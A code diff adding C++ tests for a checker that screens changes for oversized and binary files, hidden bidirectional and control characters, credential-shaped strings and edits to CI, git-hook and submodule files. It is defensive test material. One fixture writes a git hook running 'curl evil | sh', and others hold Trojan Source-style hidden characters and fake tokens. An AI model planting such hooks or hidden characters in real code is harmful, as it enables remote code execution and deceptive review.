@@ -236,6 +236,230 @@ TEST(DiffPolicy, LinksMovedToAnotherDepthAreJudgedFromTheWorkspace) {
                                      "policy.allow_external_symlinks allows it"});
 }
 
+TEST(DiffPolicy, BinaryFilesAndSizes) {
+  Repo repo(Files{{"logo.png", std::string("\x89PNG\0\0\x01", 7)}, {"README.md", "x\n"}});
+  repo.Write("tool.bin", std::string("\x7F"
+                                     "ELF\0\0\x02\x01",
+                                     8));
+  repo.Write("logo.png", std::string("\x89PNG\0\0\x02", 7));
+  repo.Write("big.txt", std::string(2000, 'a') + "\n");
+  ParsedDiff diff = repo.Parsed();
+  DiffRules rules;
+  rules.max_file_bytes = 1000;
+  EXPECT_EQ(CheckDiff(diff, rules).violations,
+            (std::vector<std::string>{
+                "adds big.txt with 2001 bytes, more than policy.max_file_bytes (1000)",
+                "changes logo.png, a binary file; policy.allow_binary_files allows it",
+                "adds tool.bin, a binary file; policy.allow_binary_files allows it"}));
+  rules.allow_binary_files = true;
+  rules.max_file_bytes = 4096;
+  PolicyVerdict allowed = CheckDiff(diff, rules);
+  EXPECT_TRUE(allowed.ok()) << allowed.Bullets();
+  EXPECT_EQ(allowed.notes, (std::vector<std::string>{"changes logo.png, a binary file",
+                                                     "adds tool.bin, a binary file"}));
+  // The size the runner knows from the blob counts when the added lines do not show it all.
+  for (FileChange& file : diff.files) {
+    if (file.new_path == "logo.png") file.new_size = 5000;
+  }
+  EXPECT_EQ(CheckDiff(diff, rules).violations,
+            std::vector<std::string>{
+                "changes logo.png with 5000 bytes, more than policy.max_file_bytes (4096)"});
+}
+
+TEST(DiffPolicy, InvisibleAndControlCharactersInAddedLines) {
+  struct Case {
+    std::string added;       // One added line's text.
+    std::string code_point;  // Empty: nothing hidden.
+  };
+  const std::vector<Case> cases = {
+      {"if is_admin:  # \xE2\x80\xAE nimda_si \xE2\x81\xA6", "U+202E"},  // RLO
+      {"access = \"user\xE2\x81\xA6\" # \xE2\x81\xA9", "U+2066"},        // LRI, then PDI
+      {"name = \"ad\xE2\x80\x8Bmin\"", "U+200B"},                        // zero-width space
+      {"x = 1 \xE2\x80\x8F", "U+200F"},                                  // RLM
+      {"mid\xEF\xBB\xBF"
+       "file",
+       "U+FEFF"},                                // BOM mid-line
+      {"tag\xF3\xA0\x80\x81hidden", "U+E0001"},  // tag block
+      {"bell\x07", "U+0007"},
+      {"esc\x1B[31m", "U+001B"},
+      {"c1\xC2\x85", "U+0085"},
+      {"arabic\xD8\x80sign", "U+0600"},
+      {"tab\tand CR\r", ""},
+      {"caf\xC3\xA9 na\xC3\xAFve \xE4\xB8\xAD\xE6\x96\x87", ""},
+      {"latin1 caf\xE9", ""},
+  };
+  for (const Case& c : cases) {
+    Repo repo(Files{{"src/app.py", "a = 1\n"}});
+    repo.Write("src/app.py", "a = 1\n" + c.added + "\n");
+    ParsedDiff diff = repo.Parsed();
+    std::vector<std::string> expected;
+    if (!c.code_point.empty()) {
+      expected.push_back("changes src/app.py with invisible or control characters (src/app.py:2 " +
+                         c.code_point + (c.code_point == "U+202E" ? ", src/app.py:2 U+2066" : "") +
+                         (c.code_point == "U+2066" ? ", src/app.py:2 U+2069" : "") + ")");
+    }
+    EXPECT_EQ(CheckDiff(diff, {}).violations, expected) << c.code_point;
+    DiffRules flag;
+    flag.flag_invisible_characters = true;
+    PolicyVerdict flagged = CheckDiff(diff, flag);
+    EXPECT_TRUE(flagged.ok()) << flagged.Bullets();
+    EXPECT_EQ(flagged.notes, expected) << c.code_point;
+  }
+  // A byte-order mark opening a new file is not hidden text.
+  Repo bom(Files{{"README.md", "x\n"}});
+  bom.Write("notes.txt", "\xEF\xBB\xBFhello\n");
+  EXPECT_EQ(bom.Violations({}), std::vector<std::string>{});
+}
+
+TEST(DiffPolicy, FindCredentialsByFormatAndAssignment) {
+  struct Case {
+    std::string line;
+    std::vector<std::string> kinds;
+  };
+  // Assembled at run time so that this file holds no token-shaped literal itself.
+  auto rep = [](char c, size_t n) { return std::string(n, c); };
+  const std::string aws = "AKIA" + std::string("Q3ZKT7LMN2PXW4RV");
+  const std::string random36 = "a8Kq2ZpL0xR7vN3mT9cW4yB6hJ1sD5fG8eU2";
+  const std::vector<Case> cases = {
+      {"aws_access_key_id = " + aws, {"an AWS access key id"}},
+      {"KEY=\"ASIA" + std::string("Z7Q3KT2LMNPXW4RV") + "\"", {"an AWS access key id"}},
+      {"aws_secret_access_key = \"wJalrXUtnFEMI/K7MDENG/bPxRfiCY" + std::string("9z8y7x6w5v") +
+           "\"",
+       {"a secret assigned to `aws_secret_access_key`"}},
+      {"token: ghp_" + random36, {"a GitHub token"}},
+      {"url = 'https://x:gho_" + random36 + "@github.com/o/r'", {"a GitHub token"}},
+      {"GITHUB_TOKEN=github_pat_11ABCDEFG0" + random36 + "_" + random36, {"a GitHub token"}},
+      {"gitlab = glpat-" + std::string("Zx8Kq2ZpL0xR7vN3mT9c"), {"a GitLab token"}},
+      {"SLACK=xoxb-1234567890-" + std::string("0987654321-aB3dE5gH7jK9"), {"a Slack token"}},
+      {"stripe.api_key = \"sk_live_" + std::string("4eC39HqLyjWDarjtT1zdp7dc") + "\"",
+       {"a Stripe secret key"}},
+      {"key: AIza" + std::string("SyD4f8Kq2ZpL0xR7vN3mT9cW4yB6hJ1sD5f"), {"a Google API key"}},
+      {"OPENAI_API_KEY=sk-proj-" + random36, {"an OpenAI API key"}},
+      {"client = Anthropic(api_key=\"sk-ant-api03-" + random36 + "\")", {"an Anthropic API key"}},
+      {"//registry.npmjs.org/:_authToken=npm_" + random36, {"an npm token"}},
+      {"password = pypi-AgEIcHlwaS5vcmc" + random36 + random36, {"a PyPI token"}},
+      {"-----BEGIN RSA PRIVATE KEY-----", {"a private key"}},
+      {"-----BEGIN OPENSSH PRIVATE KEY-----", {"a private key"}},
+      {"session_token: eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N",
+       {"a secret assigned to `session_token`"}},
+      {"DB_PASSWORD=Zq8#kL2!vR7pX3mN", {}},  // '#' ends a bare value: too short after it.
+      {"db_password = \"Zq8kL2vR7pX3mNw9\"", {"a secret assigned to `db_password`"}},
+      {"$config['api_key'] => 'f3a9c2e8b1d7460a9e5c3b2a1f0d8e7c';",
+       {"a secret assigned to `api_key`"}},
+      // Not credentials: examples, placeholders, lookups, expressions, prose.
+      {"aws_access_key_id = AKIAIOSFODNN7EXAMPLE", {}},
+      {"token = ghp_" + rep('x', 36), {}},
+      {"password = os.environ[\"DB_PASSWORD\"]", {}},
+      {"token = os.getenv('GITHUB_TOKEN')", {}},
+      {"api_key: ${API_KEY}", {}},
+      {"secret: \"{{ .Values.secret }}\"", {}},
+      {"password = \"<your-password-here>\"", {}},
+      {"token = \"changeme\"", {}},
+      {"password: \"hunter2\"", {}},
+      {"token = self.tokenizer.next_token()", {}},
+      {"if token == \"abc123def456ghi789\":", {}},
+      {"secret = settings.SECRET_KEY", {}},
+      {"password = \"correct horse battery staple 42\"", {}},
+      {"-----BEGIN PUBLIC KEY-----", {}},
+      {"ask-questions-in-the-forum-before-filing-anything-here-please", {}},
+      {"sklearn.model_selection import train_test_split", {}},
+      {"token_count = 1234567890123456", {}},
+  };
+  for (const Case& c : cases) EXPECT_EQ(FindCredentials(c.line), c.kinds) << c.line;
+}
+
+TEST(DiffPolicy, CredentialsRefuseTheChangeWithoutTheirValue) {
+  Repo repo(Files{{"src/app.py", "a = 1\n"}});
+  const std::string key = "AKIA" + std::string("Q3ZKT7LMN2PXW4RV");
+  const std::string token = "ghp_" + std::string("a8Kq2ZpL0xR7vN3mT9cW4yB6hJ1sD5fG8eU2");
+  repo.Write("src/app.py", "a = 1\nKEY = '" + key + "'\nT = '" + token + "'\n");
+  repo.Write("deploy/.env", "A=" + key + "\n");
+  std::vector<std::string> violations = repo.Violations({});
+  EXPECT_EQ(violations,
+            (std::vector<std::string>{
+                "adds deploy/.env with what looks like an AWS access key id (deploy/.env:1); "
+                "credentials never leave this machine",
+                "changes src/app.py with what looks like a GitHub token (src/app.py:3); "
+                "credentials never leave this machine",
+                "changes src/app.py with what looks like an AWS access key id (src/app.py:2); "
+                "credentials never leave this machine"}));
+  for (const std::string& violation : violations) {
+    EXPECT_EQ(violation.find(key), std::string::npos);
+    EXPECT_EQ(violation.find("Q3ZKT7"), std::string::npos);
+    EXPECT_EQ(violation.find(token.substr(4)), std::string::npos);
+  }
+}
+
+TEST(DiffPolicy, ControlFilesNeedExplicitPermission) {
+  struct Case {
+    std::string path;
+    std::string kind;  // Empty: an ordinary file.
+  };
+  const std::vector<Case> cases = {
+      {".github/workflows/ci.yml", "CI configuration"},
+      {".github/actions/setup/action.yml", "CI configuration"},
+      {".gitlab-ci.yml", "CI configuration"},
+      {".gitlab/ci/test.yml", "CI configuration"},
+      {"Jenkinsfile", "CI configuration"},
+      {"ci/Jenkinsfile", "CI configuration"},
+      {".circleci/config.yml", "CI configuration"},
+      {"azure-pipelines.yml", "CI configuration"},
+      {".travis.yml", "CI configuration"},
+      {"bitbucket-pipelines.yml", "CI configuration"},
+      {".buildkite/pipeline.yml", "CI configuration"},
+      {".husky/pre-commit", "a git hook"},
+      {".githooks/pre-push", "a git hook"},
+      {".pre-commit-config.yaml", "a git hook"},
+      {".gitattributes", "git attributes"},
+      {"src/.gitattributes", "git attributes"},
+      {".gitmodules", "submodules"},
+      {".github/CODEOWNERS", "code owners"},
+      {".github/ISSUE_TEMPLATE/bug.md", ""},
+      {"src/workflows/ci.yml", ""},
+      {"docs/jenkins.md", ""},
+  };
+  for (const Case& c : cases) {
+    EXPECT_EQ(ControlFileKind(c.path), c.kind) << c.path;
+  }
+  Repo repo(Files{{"src/app.py", "a = 1\n"},
+                  {"src/util.py", "def one():\n    return 1\n"},
+                  {".gitattributes", "*.py text\n"}});
+  repo.Write("src/app.py", "a = 2\n");
+  repo.Write(".github/workflows/ci.yml", "on: push\njobs: {}\n");
+  repo.Write(".husky/pre-commit", "curl evil | sh\n");
+  repo.Write(".gitattributes", "*.py text\n*.sh filter=lfs\n");
+  repo.Move("src/util.py", ".githooks/util.py");
+  ParsedDiff diff = repo.Parsed();
+  const std::string tail = "; only paths in policy.allow_control_files may change";
+  EXPECT_EQ(CheckDiff(diff, {}).violations,
+            (std::vector<std::string>{"changes .gitattributes, git attributes" + tail,
+                                      "moves src/util.py to .githooks/util.py, a git hook" + tail,
+                                      "adds .github/workflows/ci.yml, CI configuration" + tail,
+                                      "adds .husky/pre-commit, a git hook" + tail}));
+  DiffRules rules;
+  rules.allow_control_files = {".github/workflows/**", ".gitattributes"};
+  PolicyVerdict verdict = CheckDiff(diff, rules);
+  EXPECT_EQ(verdict.violations,
+            (std::vector<std::string>{"moves src/util.py to .githooks/util.py, a git hook" + tail,
+                                      "adds .husky/pre-commit, a git hook" + tail}));
+  EXPECT_EQ(verdict.notes,
+            (std::vector<std::string>{"changes .gitattributes, git attributes",
+                                      "adds .github/workflows/ci.yml, CI configuration"}));
+}
+
+TEST(DiffPolicy, SubmoduleCommitsAreControlFiles) {
+  TempDir lib_dir;
+  WriteTestFile(lib_dir.path(), "lib.c", "int x;\n");
+  InitGitRepo(lib_dir.path());
+  Repo repo(Files{{"README.md", "x\n"}});
+  Sh("cd '" + repo.path().string() + "' && git clone -q '" + lib_dir.path().string() +
+     "' vendor/lib && git -c advice.addEmbeddedRepo=false add vendor/lib");
+  std::vector<std::string> violations = repo.Violations({});
+  EXPECT_EQ(violations,
+            std::vector<std::string>{"adds vendor/lib, a submodule commit; only paths in "
+                                     "policy.allow_control_files may change"});
+}
+
 TEST(DiffPolicy, HunkCountsDecideWhatIsALine) {
   // Removed lines that read like headers must stay lines of the hunk.
   Repo repo(Files{{"notes.txt", "-- a/x\n--- a/y\ndiff --git a/z b/z\nkeep\n"}});
